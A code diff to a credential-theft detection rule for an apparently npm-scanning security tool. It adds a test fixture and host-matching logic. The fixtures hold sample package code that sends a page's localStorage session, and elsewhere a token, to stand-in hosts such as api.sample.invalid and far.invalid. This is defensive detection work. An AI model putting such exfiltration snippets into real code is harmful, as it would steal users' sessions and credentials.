@@ -2,9 +2,12 @@
  * Keys are kept in a few well-known places: npm's and the clouds' files in the home folder, variables of the environment,
  * browsers' and wallets' profiles, the address that gives a cloud machine its role. Worms look into all of them. Reading one
  * is worth a look; reading and sending, or doing it in an installation script, is theft.
+ * Over 300 lines, since half of them are its examples.
  */
 import type { Behavior } from '../../src/model/behavior.ts';
 import type { Evidence } from '../../src/model/finding.ts';
+import type { PackageTree } from '../../src/model/package-tree.ts';
+import { textOf } from '../../src/model/package-tree.ts';
 import { findCredentialPlace, isMetadataAddress } from '../../src/model/telling-places.ts';
 import type { Rule } from '../../src/rule.ts';
 import { defineRule, evidenceOf, shorten } from '../../src/rule.ts';
@@ -29,7 +32,7 @@ export const credentialsRead: Rule = defineRule({
     },
   ],
   appliesToAdditions: true,
-  needs: ['behaviors'],
+  needs: ['behaviors', 'files'],
   kinds: {
     sent: { level: 'block', about: 'They are sent over the network when the package is loaded or installed.' },
     'when-installed': { level: 'block', about: 'An installation script reads them.' },
@@ -40,7 +43,8 @@ export const credentialsRead: Rule = defineRule({
     },
     'own-service': {
       level: 'notice',
-      about: 'A function that users call sends a token to a host that is named like it.',
+      about:
+        "A function that users call sends a token to a host that is named like it, or the page's session to the package's own host, which it named before.",
     },
   },
   flags: [
@@ -173,6 +177,30 @@ exports.ask = (token) => require('http').request({ host: 'far.invalid', headers:
       ],
     },
     {
+      title:
+        "the page's session, sent when a function is called: to the own host that is known, and to one that is new",
+      name: '@sample/client',
+      before: { 'index.js': `exports.server = 'https://api.sample.invalid/';\n` },
+      after: {
+        'index.js': `exports.save = () => fetch('https://api.sample.invalid/', { body: localStorage.getItem('session') });
+exports.load = () => fetch('https://in.sample.invalid/', { body: localStorage.getItem('session') });
+`,
+      },
+      expect: [
+        {
+          kind: 'own-service',
+          message: 'fetch sends localStorage.getItem, localStorage to api.sample.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'save()'],
+        },
+        {
+          message: 'fetch sends localStorage.getItem, localStorage to in.sample.invalid',
+          at: { in: 'tarball', path: 'index.js', line: 2 },
+          via: ['main', 'index.js', 'load()'],
+        },
+      ],
+    },
+    {
       title: 'what a page keeps, sent at load: to the own service, and to a stranger',
       name: '@sample/client',
       before: { 'index.js': '' },
@@ -213,10 +241,10 @@ exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: proces
       },
     },
   ],
-  check({ behaviors, subject }) {
+  check({ behaviors, files, subject }) {
     return behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
       if (behavior.tier === 'unreached') return [];
-      if (behavior.kind === 'disclosure') return describeSent(behavior, subject.name);
+      if (behavior.kind === 'disclosure') return describeSent(behavior, { name: subject.name, before: files.before });
       const seen = describeRead(behavior);
       if (seen === undefined) return [];
       if (behavior.tier === 'install') return [evidenceOf(behavior, seen, 'when-installed')];
@@ -255,7 +283,12 @@ function isProjectFile(path: string): boolean {
   return /(?:^|[\\/])\.(?:env(?:\.[\w-]+)?|npmrc|yarnrc(?:\.yml)?)$/.test(path) && !/^(?:<home>|~|\$HOME)/.test(path);
 }
 
-function describeSent(behavior: Behavior, owner: string): Evidence<Kind>[] {
+interface Owner {
+  readonly name: string;
+  readonly before: PackageTree | undefined;
+}
+
+function describeSent(behavior: Behavior, owner: Owner): Evidence<Kind>[] {
   const { api, carries = [], tier, root } = behavior;
   const names = carries.filter(({ sort }) => sort === 'credential').map(({ name }) => name);
   if (names.length === 0) return [];
@@ -265,15 +298,23 @@ function describeSent(behavior: Behavior, owner: string): Evidence<Kind>[] {
   if (host === undefined && !(isEarly && root !== 'bin')) return [];
   const message = `${api} sends ${shorten(names.join(', '), 120)} to ${host === undefined ? 'a host that is not told' : shorten(host)}`;
   // A page's library may go on with the session that it keeps in the page.
-  const isSession = names.every((name) => /^(?:local|session)Storage\b/.test(name)) && isHostOf(host, owner);
+  const isSession = names.every((name) => /^(?:local|session)Storage\b/.test(name)) && isHostOf(host, owner.name);
   if (isEarly) return [evidenceOf(behavior, message, tier === 'load' && isSession ? undefined : 'sent')];
-  const isOwn = host !== undefined && names.every((name) => isNamedAfter(host, name));
+  const isOwn =
+    host !== undefined &&
+    (names.every((name) => isNamedAfter(host, name)) || (isSession && isNamedIn(owner.before, host)));
   return [evidenceOf(behavior, message, isOwn ? 'own-service' : undefined)];
 }
 
 function hostOf({ detail }: Behavior): string | undefined {
   const host = /^(?:[a-z][a-z+.-]*:)?(?:\/\/)?(?:[^/@\s]*@)?([^/:?#\s]+)/i.exec(detail ?? '')?.[1]?.toLowerCase();
   return host === undefined || host.includes('…') || /^[$<]/.test(host) ? undefined : host;
+}
+
+/** Whether the old version's code names the host. */
+function isNamedIn(before: PackageTree | undefined, host: string): boolean {
+  const files = [...(before?.files.values() ?? [])];
+  return files.some((file) => file.format === 'javascript' && textOf(file).includes(`//${host}`));
 }
 
 /** `api.sample.com` is of `sample` or of `@sample/client`, and `sample.elsewhere.com` of nobody. */
